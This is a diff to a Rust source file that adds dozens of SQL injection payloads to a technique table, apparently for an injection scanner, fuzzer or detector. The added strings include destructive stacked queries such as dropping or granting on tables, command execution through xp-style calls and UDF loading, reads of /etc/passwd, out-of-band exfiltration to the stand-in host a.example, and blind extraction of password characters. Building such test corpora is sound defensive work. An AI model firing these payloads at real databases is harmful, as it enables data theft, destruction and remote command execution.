@@ -214,6 +214,15 @@ const TECHNIQUES: &[Technique] = &[
     cond(Tautology, "'abc' regexp 'b'"),
     cond(Tautology, "null is null"),
     cond(Tautology, "1<>2"),
+    cond(Tautology, "1!=2"),
+    cond(Tautology, "1<=>1"),
+    cond(Tautology, "'a' sounds like 'a'"),
+    cond(Tautology, "1 rlike 1"),
+    cond(Tautology, "isnull(null)"),
+    cond(Tautology, "'a'||'b'='ab'"),
+    cond(Tautology, "2 not between 3 and 4"),
+    cond(Tautology, "match(name) against('a')"),
+    cond(Tautology, "1 glob 1"),
     // boolean: always false
     cond(Contradiction, "1=2"),
     cond(Contradiction, "'a'='b'"),
@@ -243,6 +252,15 @@ const TECHNIQUES: &[Technique] = &[
     tail(Union, "union select current_user,null from dual"),
     tail(Union, "union all select usename,passwd from pg_shadow"),
     tail(Union, "union select @@version,null"),
+    tail(Union, "union(select 1,2)"),
+    tail(Union, "union select top 1 name from sysobjects"),
+    tail(Union, "union select 1 from dual where 1=1"),
+    tail(
+        Union,
+        "union select group_concat(schema_name) from information_schema.schemata",
+    ),
+    tail(Union, "union all select null,table_name from all_tables"),
+    tail(Union, "intersect select 1"),
     // stacked statements
     tail(Stacked, "; drop table users"),
     tail(Stacked, "; insert into users values (1,'x')"),
@@ -261,6 +279,24 @@ const TECHNIQUES: &[Technique] = &[
     tail(Stacked, "; select 1"),
     tail(Stacked, "; set @a=1"),
     tail(Stacked, "; rename table users to old_users"),
+    tail(Stacked, "; execute immediate 'drop table users'"),
+    tail(
+        Stacked,
+        "; merge into users u using dual on (1=1) when matched then delete",
+    ),
+    tail(Stacked, "; call sys.exec('id')"),
+    tail(Stacked, "; handler users open"),
+    tail(Stacked, "; load data infile '/etc/passwd' into table users"),
+    tail(
+        Stacked,
+        "; create function sys_exec returns int soname 'udf.so'",
+    ),
+    tail(Stacked, "; exec sp_configure 'show advanced options',1"),
+    tail(Stacked, "; exec('sel'+'ect 1')"),
+    tail(Stacked, "; declare @q nvarchar(99) exec sp_executesql @q"),
+    tail(Stacked, "; grant all on *.* to x"),
+    tail(Stacked, "; lock tables users write"),
+    tail(Stacked, "; replace into users values (1,'x')"),
     // time
     cond(Time, "sleep(5)"),
     cond(Time, "sleep(5)=0"),
@@ -279,6 +315,15 @@ const TECHNIQUES: &[Technique] = &[
     tail(Time, "; waitfor time '23:59:59'"),
     tail(Time, "; select pg_sleep(5)"),
     tail(Time, "; begin dbms_lock.sleep(5); end"),
+    cond(
+        Time,
+        "1=(case when 1=1 then pg_sleep(5) else pg_sleep(0) end)",
+    ),
+    cond(Time, "get_lock('a',5)"),
+    cond(Time, "1 rlike sleep(5)"),
+    cond(Time, "1=(select count(*) from all_objects,all_objects)"),
+    tail(Time, "; select sleep(5)"),
+    cond(Time, "elt(1=1,sleep(5))"),
     // error
     cond(Error, "extractvalue(1,concat(0x7e,version()))"),
     cond(Error, "updatexml(1,concat(0x7e,user()),1)"),
@@ -297,6 +342,22 @@ const TECHNIQUES: &[Technique] = &[
     cond(Error, "1=ctxsys.drithsx.sn(1,user)"),
     cond(Error, "1=db_name(0)"),
     cond(Error, "1=@@version::int"),
+    cond(
+        Error,
+        "row(1,1)>(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)",
+    ),
+    cond(Error, "1=convert(int,(select top 1 name from sysobjects))"),
+    cond(Error, "extractvalue(rand(),concat(0x3a,(select user())))"),
+    cond(Error, "cast((select version()) as numeric)=1"),
+    cond(Error, "1=(select 1/0)"),
+    cond(
+        Error,
+        "polygon((select * from (select * from (select @@version)f)x))",
+    ),
+    cond(
+        Error,
+        "json_keys((select convert((select user()) using utf8)))",
+    ),
     // out of band
     tail(OutOfBand, "union select load_file('/etc/passwd')"),
     tail(OutOfBand, "union select 'x' into outfile '/tmp/x'"),
@@ -307,6 +368,18 @@ const TECHNIQUES: &[Technique] = &[
     cond(OutOfBand, "utl_http.request('http://a.example/'||user)=1"),
     cond(OutOfBand, "1=utl_inaddr.get_host_address(user)"),
     cond(OutOfBand, "(select load_file('/etc/passwd')) is not null"),
+    tail(OutOfBand, "; exec xp_fileexist '//a.example/b'"),
+    tail(OutOfBand, "union select 1 into dumpfile '/tmp/x'"),
+    tail(OutOfBand, "; select lo_import('/etc/passwd')"),
+    tail(OutOfBand, "; select pg_read_file('/etc/passwd')"),
+    cond(
+        OutOfBand,
+        "1=(select 1 from openrowset('sqloledb','a';'b';'c','select 1'))",
+    ),
+    cond(
+        OutOfBand,
+        "load_file(concat('//',version(),'.a.example/x'))",
+    ),
     cond(
         OutOfBand,
         "1=(select 1 from dual where dbms_ldap.init('a.example',80)=1)",
@@ -330,6 +403,22 @@ const TECHNIQUES: &[Technique] = &[
         "(select substr(banner,1,1) from v$version where rownum=1)='O'",
     ),
     cond(Blind, "unicode(substr(sqlite_version(),1,1))>0"),
+    cond(Blind, "substr(version(),1,1) between 'a' and 'z'"),
+    cond(Blind, "mid(user(),1,1) regexp '^r'"),
+    cond(Blind, "(select 1 from users where username like 'a%')=1"),
+    cond(
+        Blind,
+        "1=(select count(*) from users where substring(password,1,1)='a')",
+    ),
+    cond(Blind, "make_set(1=1,1)"),
+    cond(Blind, "strcmp(substr(user(),1,1),'r')=0"),
+    cond(Blind, "conv(hex(substr(user(),1,1)),16,10)>100"),
+    cond(
+        Blind,
+        "(select top 1 substring(name,1,1) from sysobjects)='a'",
+    ),
+    cond(Blind, "instr(user(),'r')>0"),
+    cond(Blind, "exists(select 1 from pg_user)"),
 ];
 
 /// How a condition joins the value.
